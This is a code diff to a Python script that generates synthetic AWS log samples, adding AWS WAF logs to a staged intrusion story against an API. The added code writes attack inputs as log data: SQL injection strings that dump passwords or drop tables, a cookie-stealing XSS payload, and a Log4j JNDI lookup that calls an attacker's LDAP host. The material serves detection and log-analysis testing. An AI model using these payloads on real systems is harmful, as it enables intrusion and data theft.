@@ -12,10 +12,26 @@ Lambda, in account 111122223333, with one attack story in it:
   09:30        bob stops CloudTrail logging (StopLogging)
   09:35-09:40  GET /search spikes to ~600 requests (baseline ~10 per 5 minutes), Lambda times out
 
+In front of the prod stage, the AWS WAF web ACL orders-api logs every request
+(ALLOW, with bot-control labels counted on HTTP libraries) until bob removes it:
+
+  08:40        a POST /orders body too large for WAF to inspect whole (oversize)
+  09:05-09:07  the attacker's SQL injection, XSS and Log4j probes on /search are
+               blocked by the managed rule groups
+  09:07-09:08  it swaps sqlmap's user agent for a browser's and is let through on /orders
+  09:08-09:10  it finds stage v1, which no web ACL covers: the same injection reaches
+               API Gateway (200s, then 500s)
+  09:10-09:15  its POST /login burst is allowed but labelled as a hosting provider's
+               address; the rate-based rule then blocks the rest
+  09:20        a scraper on /orders is served CAPTCHAs (CloudWatch Logs delivery)
+  09:31        bob disassociates the web ACL from the prod stage (CloudTrail)
+
 Formats: CloudTrail S3 objects (plain and gzip) and a digest file; API Gateway
 REST JSON access logs (NDJSON) and HTTP API CLF logs; Lambda logs as a
 CloudWatch Logs subscription event (base64 gzip), as Firehose output
-(concatenated gzip members), and in the JSON log format.
+(concatenated gzip members), and in the JSON log format; WAF logs as S3
+objects under AWSLogs/<account>/WAFLogs/ (gzip NDJSON) and as a CloudWatch Logs
+subscription event from an aws-waf-logs-* group.
 """
 import base64, datetime as dt, gzip, json, os, random, uuid
 
@@ -29,8 +45,8 @@ CLIENTS = [f"198.51.100.{i}" for i in range(10, 40)]
 USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"]
 
 
-def uid():
-    return str(uuid.UUID(int=R.getrandbits(128), version=4))
+def uid(rng=None):
+    return str(uuid.UUID(int=(rng or R).getrandbits(128), version=4))
 
 
 def at(minutes, seconds=0.0):
@@ -74,7 +90,7 @@ def identity(user, mfa=False, key="ASIAEXAMPLE" ):
 
 
 def ct(t, source, name, ident, ip, ua="aws-cli/2.15.0 Python/3.11.6 Linux/6.1 exe/x86_64", params=None,
-       response=None, error=None, read_only=False, event_type="AwsApiCall", extra=None):
+       response=None, error=None, read_only=False, event_type="AwsApiCall", extra=None, rng=None):
     rec = {
         "eventVersion": "1.09",
         "userIdentity": ident,
@@ -86,8 +102,8 @@ def ct(t, source, name, ident, ip, ua="aws-cli/2.15.0 Python/3.11.6 Linux/6.1 ex
         "userAgent": ua,
         "requestParameters": params,
         "responseElements": response,
-        "requestID": uid(),
-        "eventID": uid(),
+        "requestID": uid(rng),
+        "eventID": uid(rng),
         "readOnly": read_only,
         "eventType": event_type,
         "managementEvent": True,
@@ -159,6 +175,9 @@ def cloudtrail():
                               "policy": ""}))
     records.append(ct(at(90), "cloudtrail.amazonaws.com", "StopLogging", bob, ATTACKER, ua=ua,
                       params={"name": f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/management-events"}))
+    records.append(ct(at(WAF_REMOVED), "wafv2.amazonaws.com", "DisassociateWebACL", bob, ATTACKER, ua=ua,
+                      params={"resourceArn": f"arn:aws:apigateway:{REGION}::/restapis/a1b2c3d4e5/stages/prod"},
+                      rng=RW))
     records.sort(key=lambda r: r["eventTime"])
     first, second = records[: len(records) // 2], records[len(records) // 2:]
     write(f"cloudtrail/{ACCOUNT}_CloudTrail_{REGION}_20261124T0800Z_a1b2c3d4.json",
@@ -179,22 +198,24 @@ def cloudtrail():
 ROUTES = [("GET", "/orders"), ("GET", "/orders/{id}"), ("POST", "/orders"), ("GET", "/search"), ("POST", "/login")]
 
 
-def rest_log(t, method, resource, status, ip, latency):
-    path = resource.replace("{id}", str(R.randint(1000, 9999)))
+def rest_log(t, method, resource, status, ip, latency, rng=None, stage="prod", ua=None):
+    rng = rng or R
+    path = resource.replace("{id}", str(rng.randint(1000, 9999)))
     return {
-        "requestId": uid(), "extendedRequestId": "".join(R.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(16)),
+        "requestId": uid(rng), "extendedRequestId": "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(16)),
         "ip": ip, "caller": "-", "user": "-", "requestTime": clf_time(t), "requestTimeEpoch": int(t.timestamp() * 1000),
-        "httpMethod": method, "resourcePath": resource, "path": f"/prod{path}", "status": str(status), "protocol": "HTTP/1.1",
-        "responseLength": str(R.randint(80, 4000)), "responseLatency": str(latency),
-        "integrationLatency": str(max(1, latency - R.randint(1, 5))), "userAgent": R.choice(
+        "httpMethod": method, "resourcePath": resource, "path": f"/{stage}{path}", "status": str(status), "protocol": "HTTP/1.1",
+        "responseLength": str(rng.randint(80, 4000)), "responseLatency": str(latency),
+        "integrationLatency": str(max(1, latency - rng.randint(1, 5))), "userAgent": ua or rng.choice(
             ["Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15", "okhttp/4.12.0", "python-requests/2.31.0"]),
-        "apiId": "a1b2c3d4e5", "stage": "prod", "domainName": "api.acme.example",
+        "apiId": "a1b2c3d4e5", "stage": stage, "domainName": "api.acme.example",
         "authorizerError": "-", "errorMessage": "-" if status < 400 else ("Unauthorized" if status == 401 else "Internal server error"),
         "errorResponseType": "-" if status < 400 else ("UNAUTHORIZED" if status == 401 else "DEFAULT_5XX"),
     }
 
 
 def apigateway():
+    """Writes the API Gateway samples; returns the REST API's access logs."""
     lines = []
     for minute in range(120):
         for _ in range(R.randint(2, 4)):
@@ -207,6 +228,14 @@ def apigateway():
         t = at(95, i * 0.5)
         status = 504 if i % 40 == 0 else 200
         lines.append(rest_log(t, "GET", "/search", status, R.choice(CLIENTS + [ATTACKER] * 5), R.randint(200, 2900)))
+    # The attacker past the firewall: a browser's user agent on /orders, then
+    # the injection on stage v1, which no web ACL covers.
+    for i in range(3):
+        lines.append(rest_log(at(67, 40 + i * 6), "GET", "/orders/{id}", 200, ATTACKER, RW.randint(20, 90),
+                              rng=RW, ua=BROWSER))
+    for i in range(12):
+        lines.append(rest_log(at(68, i * 9), "GET", "/search", 200 if i < 7 else 500, ATTACKER, RW.randint(20, 400),
+                              rng=RW, stage="v1", ua=BROWSER))
     lines.sort(key=lambda r: r["requestTimeEpoch"])
     write("apigateway/rest-api-access-prod.ndjson", "".join(json.dumps(l) + "\n" for l in lines))
     # An HTTP API with the console's CLF default, route keys and all.
@@ -217,6 +246,7 @@ def apigateway():
         status = R.choice([200, 200, 200, 204, 403])
         clf.append(f'{R.choice(CLIENTS)} - - [{clf_time(t)}] "{method} {method} {route} HTTP/1.1" {status} {R.randint(2, 900)} {uid()}')
     write("apigateway/http-api-access-clf.log", "\n".join(clf) + "\n")
+    return lines
 
 
 # ---------------------------------------------------------------- Lambda
@@ -280,7 +310,139 @@ def lambda_logs():
     write("lambda/payments-charge-json-format.ndjson", "".join(json.dumps(l) + "\n" for l in lines))
 
 
+# ---------------------------------------------------------------- WAF
+# Drawn from their own generator, so that the samples above stay as they were.
+RW = random.Random(24)
+WAF_REMOVED = 91  # minutes after 08:00: bob disassociates the web ACL
+BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
+SQLMAP = "sqlmap/1.7.11#stable (https://sqlmap.org)"
+WEB_ACL = f"arn:aws:wafv2:{REGION}:{ACCOUNT}:regional/webacl/orders-api/3f6d1c2a-7b8e-4e0f-9a1d-5c2b8e7f4a10"
+HOSTING = "awswaf:managed:aws:anonymous-ip-list:HostingProviderIPList"
+HTTP_LIBRARY = ["awswaf:managed:aws:bot-control:bot:category:http_library",
+                "awswaf:managed:aws:bot-control:signal:non_browser_user_agent"]
+
+
+def fingerprints(ua):
+    """A client's TLS fingerprints, stable per user agent."""
+    digest = uuid.uuid5(uuid.NAMESPACE_URL, ua).hex
+    return digest, f"t13d1516h2_{digest[:12]}_{digest[12:24]}"
+
+
+def group(rule_group, terminating=None, counted=()):
+    return {"ruleGroupId": rule_group, "terminatingRule": terminating,
+            "nonTerminatingMatchingRules": [{"ruleId": r, "action": "COUNT", "overriddenAction": "BLOCK",
+                                             "ruleMatchDetails": []} for r in counted],
+            "excludedRules": None, "customerConfig": None}
+
+
+def waf_log(t, ip, method, uri, args="", ua=BROWSER, request_id=None, action="ALLOW", country="US"):
+    ja3, ja4 = fingerprints(ua)
+    headers = [{"name": "Host", "value": "api.acme.example"}, {"name": "User-Agent", "value": ua},
+               {"name": "Accept", "value": "*/*"}]
+    if uri.startswith("/orders"):
+        headers.append({"name": "Authorization", "value": "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjdXN0b21lci0xIn0.c2ln"})
+    groups = [group("AWS#AWSManagedRulesCommonRuleSet"), group("AWS#AWSManagedRulesKnownBadInputsRuleSet"),
+              group("AWS#AWSManagedRulesSQLiRuleSet")]
+    labels = []
+    if "python-requests" in ua or "okhttp" in ua:
+        groups.append(group("AWS#AWSManagedRulesBotControlRuleSet", counted=["CategoryHttpLibrary", "SignalNonBrowserUserAgent"]))
+        labels += HTTP_LIBRARY
+    else:
+        groups.append(group("AWS#AWSManagedRulesBotControlRuleSet"))
+    return {
+        "timestamp": int(t.timestamp() * 1000), "formatVersion": 1, "webaclId": WEB_ACL,
+        "terminatingRuleId": "Default_Action", "terminatingRuleType": "REGULAR", "action": action,
+        "terminatingRuleMatchDetails": [], "httpSourceName": "APIGW", "httpSourceId": f"{ACCOUNT}:a1b2c3d4e5:prod",
+        "ruleGroupList": groups, "rateBasedRuleList": [], "nonTerminatingMatchingRules": [],
+        "requestHeadersInserted": None, "responseCodeSent": None,
+        "httpRequest": {"clientIp": ip, "country": country, "headers": headers, "uri": uri, "args": args,
+                        "httpVersion": "HTTP/1.1", "httpMethod": method, "requestId": request_id or uid(RW),
+                        "fragment": "", "scheme": "https", "host": "api.acme.example"},
+        "labels": [{"name": l} for l in labels], "ja3Fingerprint": ja3, "ja4Fingerprint": ja4,
+    }
+
+
+def blocked_by(rec, rule_group, rule, label, details):
+    rec["terminatingRuleId"] = rule_group.replace("#", "-")
+    rec["terminatingRuleType"] = "MANAGED_RULE_GROUP"
+    rec["action"] = "BLOCK"
+    for g in rec["ruleGroupList"]:
+        if g["ruleGroupId"] == rule_group:
+            g["terminatingRule"] = {"ruleId": rule, "action": "BLOCK", "ruleMatchDetails": details}
+    rec["labels"].append({"name": label})
+    return rec
+
+
+def waf(api_lines):
+    allowed = []
+    for line in api_lines:
+        t = dt.datetime.fromtimestamp(line["requestTimeEpoch"] / 1000, dt.timezone.utc)
+        if line["stage"] != "prod" or t >= at(WAF_REMOVED):
+            continue
+        uri = line["path"][len("/prod"):]
+        rec = waf_log(t, line["ip"], line["httpMethod"], uri, ua=line["userAgent"], request_id=line["requestId"])
+        if line["ip"] == ATTACKER and line["resourcePath"] == "/login":
+            # The hosting-provider list runs in COUNT mode: labelled, let through.
+            rec["ruleGroupList"].append(group("AWS#AWSManagedRulesAnonymousIpList", counted=["HostingProviderIPList"]))
+            rec["labels"].append({"name": HOSTING})
+        allowed.append(rec)
+    # A body too large for WAF to inspect whole.
+    big = next(r for r in allowed if r["httpRequest"]["httpMethod"] == "POST" and r["timestamp"] >= at(40).timestamp() * 1000)
+    big.update({"oversizeFields": ["REQUEST_BODY"], "requestBodySize": 24576, "requestBodySizeInspectedByWAF": 8192})
+    probes = []
+    sqli = ["1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1; DROP TABLE orders--",
+            "1' AND SLEEP(5)--", "1' AND 1=CONVERT(int,@@version)--"]
+    for i in range(15):
+        q = sqli[i % len(sqli)]
+        rec = waf_log(at(65, i * 8), ATTACKER, "GET", "/search", args=f"q={q}", ua=SQLMAP)
+        probes.append(blocked_by(rec, "AWS#AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS",
+                                   "awswaf:managed:aws:sql-database:SQLi_QueryArguments", [
+            {"conditionType": "SQL_INJECTION", "sensitivityLevel": "LOW", "location": "QUERY_STRING",
+             "matchedData": q.replace("'", " ").split()[:4]}]))
+    for i in range(4):
+        rec = waf_log(at(67, i * 5), ATTACKER, "GET", "/search", args="q=<script>alert(document.cookie)</script>", ua=SQLMAP)
+        probes.append(blocked_by(rec, "AWS#AWSManagedRulesCommonRuleSet", "CrossSiteScripting_QUERYARGUMENTS",
+                                   "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments", [
+            {"conditionType": "XSS", "location": "QUERY_STRING", "matchedData": ["<script", ">alert(document.cookie)</script>"]}]))
+    for i in range(2):
+        jndi = f"${{jndi:ldap://{ATTACKER}:1389/a}}"
+        rec = waf_log(at(67, 25 + i * 5), ATTACKER, "GET", "/search", args="q=shoes", ua=jndi)
+        probes.append(blocked_by(rec, "AWS#AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_HEADER",
+                                   "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header", [
+            {"conditionType": "REGEX", "location": "HEADER", "matchedFieldName": "user-agent", "matchedData": [jndi]}]))
+    # The rate-based rule stops the rest of the POST /login burst.
+    for i in range(20):
+        rec = waf_log(at(74, 52 + i * 0.4), ATTACKER, "POST", "/login")
+        rec.update({"terminatingRuleId": "login-rate-limit", "terminatingRuleType": "RATE_BASED", "action": "BLOCK",
+                    "rateBasedRuleList": [{"rateBasedRuleId": "8c1b5e0a-4d2f-4b7e-9f3a-2e6d7c8b9a01",
+                                           "rateBasedRuleName": "login-rate-limit", "limitKey": "IP",
+                                           "maxRateAllowed": 40, "evaluationWindowSec": "300"}]})
+        rec["ruleGroupList"].append(group("AWS#AWSManagedRulesAnonymousIpList", counted=["HostingProviderIPList"]))
+        rec["labels"].append({"name": HOSTING})
+        probes.append(rec)
+    records = sorted(allowed + probes, key=lambda r: r["timestamp"])
+    prefix = f"waf/AWSLogs/{ACCOUNT}/WAFLogs/{REGION}/orders-api/2026/11/24"
+    for hour in (8, 9):
+        part = [r for r in records if dt.datetime.fromtimestamp(r["timestamp"] / 1000, dt.timezone.utc).hour == hour]
+        body = "".join(json.dumps(r, separators=(",", ":")) + "\n" for r in part)
+        write(f"{prefix}/{hour:02d}/00/{ACCOUNT}_waflogs_{REGION}_orders-api_20261124T{hour:02d}00Z_{hour:02d}5c2b8e.log.gz",
+              gzip.compress(body.encode(), mtime=0), "wb")
+    # A scraper served CAPTCHAs, from a web ACL that logs to CloudWatch Logs.
+    events = []
+    for i in range(6):
+        rec = waf_log(at(80, i * 3), "198.51.100.200", "GET", "/orders", ua="Mozilla/5.0 (compatible; ScrapeBot/2.1)",
+                      country="NL")
+        rec.update({"terminatingRuleId": "orders-captcha", "terminatingRuleType": "REGULAR", "action": "CAPTCHA",
+                    "captchaResponse": {"responseCode": 405, "solveTimestamp": 0, "failureReason": "TOKEN_MISSING"}})
+        del rec["captchaResponse"]["solveTimestamp"]
+        events.append({"id": str(RW.getrandbits(120)), "timestamp": rec["timestamp"],
+                       "message": json.dumps(rec, separators=(",", ":"))})
+    payload = cwl_payload(events, "aws-waf-logs-orders-api", f"{REGION}_orders-api_0")
+    data = base64.b64encode(gzip.compress(json.dumps(payload).encode(), mtime=0)).decode()
+    write("waf/cloudwatch-subscription-aws-waf-logs-orders-api.json", json.dumps({"awslogs": {"data": data}}, indent=2) + "\n")
+
+
 if __name__ == "__main__":
     cloudtrail()
-    apigateway()
+    waf(apigateway())
     lambda_logs()
